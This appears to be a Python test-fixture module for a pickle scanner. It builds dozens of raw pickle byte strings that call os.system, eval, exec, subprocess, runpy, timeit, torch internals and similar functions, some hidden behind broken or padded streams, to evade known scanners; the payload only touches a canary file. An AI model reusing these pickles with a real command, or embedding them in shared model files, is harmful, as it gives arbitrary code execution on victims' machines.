"""Pickles that would run a command, spelt in every way that the stack machine knows: bytes, never objects.

Each would create the file that the environment variable GARRISON_CANARY names. `fires` says whether Python's own
reader can be made to show it; others need a program that is not installed, or a torch that is older.
"""

import pickle
import struct
from dataclasses import dataclass

COMMAND = 'touch "$GARRISON_CANARY"'
SOURCE = "open(__import__('os').environ['GARRISON_CANARY'], 'w').close()"


@dataclass(frozen=True)
class HostilePickle:
    """One pickle; `rules` are the reasons that will do."""

    name: str
    data: bytes
    fires: bool = True
    rules: tuple[str, ...] = ("forbidden_global",)


def short(text: str) -> bytes:
    """Push a text of under 256 bytes (SHORT_BINUNICODE, protocol 4)."""
    return b"\x8c" + bytes([len(text)]) + text.encode()


def text(value: str) -> bytes:
    """Push a text (BINUNICODE, protocol 1)."""
    return b"X" + struct.pack("<I", len(value.encode())) + value.encode()


def named(module: str, name: str) -> bytes:
    """Push a global (GLOBAL)."""
    return f"c{module}\n{name}\n".encode()


def call(module: str, name: str, *arguments: bytes) -> bytes:
    """Push what a call returns."""
    return named(module, name) + b"(" + b"".join(arguments) + b"tR"


def whole(body: bytes, protocol: int = 2) -> bytes:
    """Return a pickle of this body."""
    return b"\x80" + bytes([protocol]) + body + b"."


SYSTEM = call("posix", "system", text(COMMAND))
BENIGN = pickle.dumps({"epoch": 1}, 2)


def list_pickles() -> list[HostilePickle]:
    """Return every way of spelling it."""
    return [*_spellings(), *_streams(), *_gadgets(), *_torch_gadgets()]


def _spellings() -> list[HostilePickle]:
    """One call, in the words of each protocol."""
    memoised = short("posix") + b"\x94" + b"0" + short("system") + b"\x94" + b"0" + b"h\x00h\x01\x93"
    extension = b"\x82\x2a" + text(COMMAND) + b"\x85R"
    computed = (
        named("builtins", "str") + short("posix") + b"\x85R" + short("system") + b"\x93" + text(COMMAND) + b"\x85R"
    )
    return [
        HostilePickle("REDUCE, protocol 2", whole(SYSTEM)),
        HostilePickle("protocol 0 without a header", f"cposix\nsystem\n(S'{COMMAND}'\ntR.".encode()),
        HostilePickle("protocol 1", named("posix", "system") + b"(" + text(COMMAND) + b"tR."),
        HostilePickle("INST", f"(S'{COMMAND}'\niposix\nsystem\n.".encode()),
        HostilePickle("OBJ", whole(b"(" + named("posix", "system") + text(COMMAND) + b"o")),
        HostilePickle("NEWOBJ", whole(named("subprocess", "Popen") + b"(" + text(COMMAND) + b"t\x81"), fires=False),
        HostilePickle(
            "NEWOBJ_EX", whole(named("subprocess", "Popen") + b"(" + text(COMMAND) + b"t}\x92", 4), fires=False
        ),
        HostilePickle("STACK_GLOBAL", whole(short("posix") + short("system") + b"\x93" + text(COMMAND) + b"\x85R", 4)),
        HostilePickle("STACK_GLOBAL through the memo", whole(memoised + text(COMMAND) + b"\x85R", 4)),
        HostilePickle("STACK_GLOBAL of computed names", whole(computed, 4)),
        HostilePickle(
            "BUILD with a hostile __setstate__",
            whole(call("posix", "system", text(COMMAND)) + b"}" + text("x") + b"K\x01sb"),
            fires=False,
        ),
        HostilePickle("extension registry", whole(extension), fires=False),
        HostilePickle("frame around it", whole(b"\x95" + struct.pack("<Q", len(SYSTEM) + 1) + SYSTEM, 4)),
        HostilePickle(
            "long binary text names",
            whole(b"\x8d" + struct.pack("<Q", 5) + b"posix" + short("system") + b"\x93" + text(COMMAND) + b"\x85R", 4),
        ),
        HostilePickle("Python 2's name of a module", whole(call("__builtin__", "eval", text(SOURCE)))),
        HostilePickle("renamed by unpickling (commands)", whole(call("commands", "getoutput", text(COMMAND)))),
        HostilePickle(
            "dotted name", whole(short("os") + short("path.os.system") + b"\x93" + text(COMMAND) + b"\x85R", 4)
        ),
        HostilePickle(
            "names with protocol 5",
            whole(
                short("posix") + b"\x94" + short("system") + b"\x94\x93\x94" + short(COMMAND) + b"\x94\x85\x94R\x94", 5
            ),
        ),
        HostilePickle(
            "text of protocol 0 with escapes",
            f"Vposix\nVsys\\u0074em\n\x93V{COMMAND}\n\x85R.".encode("latin-1"),
            rules=("undecidable_pickle", "bad_pickle", "weight_format"),
        ),
        HostilePickle("DUP and POP in between", whole(b"K\x0120" + SYSTEM)),
    ]


def _streams() -> list[HostilePickle]:
    """One call, where a reader that looks at the first or only at whole pickles does not look."""
    return [
        HostilePickle("broken behind the call", whole(SYSTEM)[:-1] + b"\xff"),
        HostilePickle("no STOP", whole(SYSTEM)[:-1]),
        HostilePickle("invalid opcode behind the call (nullifAI)", whole(SYSTEM)[:-1] + b"X\xff\xff\xff\xffbroken"),
        HostilePickle("unknown memo behind the call", whole(SYSTEM)[:-1] + b"h\x63."),
        HostilePickle("second of two pickles", BENIGN + whole(SYSTEM), fires=False),
        HostilePickle("behind twenty thousand opcodes", whole(b"K\x010" * 20_000 + SYSTEM)),
        HostilePickle("after a name that is not UTF-8", whole(SYSTEM + b"0" + b"c\xff\xfe\nx\n")),
    ]


def _gadgets() -> list[HostilePickle]:
    """Calls of things that lists of dangerous names have left out; the comments say who published them."""
    module = call("importlib", "import_module", text("os"))
    getattr_system = call("builtins", "getattr", module, text("system"))
    return [
        HostilePickle("builtins.eval", whole(call("builtins", "eval", text(SOURCE)))),
        HostilePickle("builtins.exec", whole(call("builtins", "exec", text(SOURCE)))),
        HostilePickle("getattr of an imported module", whole(getattr_system + b"(" + text(COMMAND) + b"tR")),
        HostilePickle(
            "operator.attrgetter",
            whole(
                call("operator", "attrgetter", text("system"))
                + b"("
                + call("importlib", "import_module", text("os"))
                + b"tR("
                + text(COMMAND)
                + b"tR"
            ),
        ),
        HostilePickle(
            "operator.methodcaller",
            whole(
                call("operator", "methodcaller", text("system"), text(COMMAND))
                + b"("
                + call("importlib", "import_module", text("os"))
                + b"tR"
            ),
        ),
        HostilePickle(
            "functools.partial", whole(call("functools", "partial", named("posix", "system"), text(COMMAND)) + b")R")
        ),
        HostilePickle(
            "functools.reduce over map",
            whole(
                call("builtins", "list", call("builtins", "map", named("posix", "system"), b"(" + text(COMMAND) + b"t"))
            ),
        ),
        HostilePickle("runpy.run_path", whole(call("runpy", "run_path", text("canary.py"))), fires=False),
        HostilePickle(
            "runpy._run_code (picklescan, 2025)",
            whole(call("runpy", "_run_code", call("builtins", "compile", text(SOURCE), text(""), text("exec")), b"}")),
        ),
        HostilePickle(
            "pip.main (CVE-2025-1716)", whole(call("pip", "main", b"(" + text("--version") + b"l")), fires=False
        ),
        HostilePickle("timeit.timeit (picklescan, 2025)", whole(call("timeit", "timeit", text("pass"), text(SOURCE)))),
        HostilePickle("cProfile.run (picklescan, 2025)", whole(call("cProfile", "run", text(SOURCE)))),
        HostilePickle("pdb.run (picklescan, 2025)", whole(call("pdb", "run", text(SOURCE))), fires=False),
        HostilePickle(
            "code.InteractiveInterpreter",
            whole(
                call("builtins", "getattr", call("code", "InteractiveInterpreter"), text("runsource"))
                + b"("
                + text(SOURCE)
                + b"tR"
            ),
        ),
        HostilePickle("ctypes.CDLL", whole(call("ctypes", "CDLL", text("./canary.so"))), fires=False),
        HostilePickle(
            "importlib.import_module", whole(call("importlib", "import_module", text("canary"))), fires=False
        ),
        HostilePickle(
            "asyncio's subprocess (picklescan, 2025)",
            whole(call("asyncio.unix_events", "_UnixSubprocessTransport._start")),
            fires=False,
        ),
        HostilePickle(
            "logging.config.listen (picklescan, 2025)", whole(call("logging.config", "listen", b"K\x00")), fires=False
        ),
        HostilePickle(
            "lib2to3's pickled grammar", whole(call("lib2to3.pgen2.grammar", "Grammar.loads", b"C\x01.")), fires=False
        ),
        HostilePickle("idlelib.run.Executive.runcode", whole(named("idlelib.run", "Executive")), fires=False),
        HostilePickle(
            "doctest.debug_script (picklescan, 2025)", whole(call("doctest", "debug_script", text(SOURCE))), fires=False
        ),
        HostilePickle("numpy.load of a pickled file", whole(call("numpy", "load", text("canary.npy"))), fires=False),
        HostilePickle(
            "numpy.f2py's eval (picklescan, 2025)",
            whole(call("numpy.f2py.crackfortran", "getlincoef", text(SOURCE), b"}")),
            fires=False,
        ),
        HostilePickle(
            "urllib sends what it reads",
            whole(call("urllib.request", "urlopen", text("http://127.0.0.1:1/"))),
            fires=False,
        ),
        HostilePickle("shutil.rmtree", whole(call("shutil", "rmtree", text("/nonexistent"))), fires=False),
        HostilePickle("io.open for writing", whole(call("io", "open", text("canary"), text("w"))), fires=False),
        HostilePickle("types.CodeType", whole(named("types", "FunctionType")), fires=False),
        HostilePickle("copyreg._reconstructor", whole(named("copyreg", "_reconstructor")), fires=False),
    ]


def _torch_gadgets() -> list[HostilePickle]:
    """Names below torch that scanners trust for their first word."""
    return [
        HostilePickle(f"{module}.{name}", whole(call(module, name, text(SOURCE))), fires=False)
        for module, name in (
            ("torch.utils._config_module", "load_config"),  # picklescan, 2025
            ("torch.utils.bottleneck.__main__", "run_cprofile"),  # picklescan, 2025
            ("torch.utils.bottleneck.__main__", "run_autograd_prof"),
            ("torch.utils.collect_env", "run"),
            ("torch.utils.data.datapipes.utils.decoder", "basichandlers"),
            ("torch.fx.experimental.symbolic_shapes", "ShapeEnv.evaluate_guards_expression"),  # picklescan, 2025
            ("torch._dynamo.guards", "GuardBuilder.get"),  # picklescan, 2025
            ("torch.jit.unsupported_tensor_ops", "execWrapper"),  # picklescan, 2025
            ("torch.serialization", "load"),
            ("torch.hub", "load"),
            ("torch", "load"),
            ("torch.distributed.rpc", "_run_function"),
            ("torch._inductor.codecache", "compile_file"),
            ("torch.cpp_extension", "load_inline"),
            ("torch.ops", "load_library"),
            ("torch._utils", "_import_dotted_name"),
            ("torch.storage", "_load_from_bytes"),
        )
    ]
